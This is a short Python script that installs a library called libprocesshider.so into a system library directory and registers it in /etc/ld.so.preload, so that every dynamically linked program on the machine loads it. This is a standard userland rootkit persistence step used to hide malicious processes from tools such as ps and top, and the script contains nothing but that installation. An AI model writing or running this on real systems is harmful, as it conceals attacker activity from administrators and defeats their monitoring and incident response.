import os

lib = "/usr/lib/x86_64-linux-gnu/libprocesshider.so"
with open("libprocesshider.so", "rb") as src, open(lib, "wb") as dst:
    dst.write(src.read())

with open("/etc/ld.so.preload", "a") as pre:
    pre.write(lib + "\n")
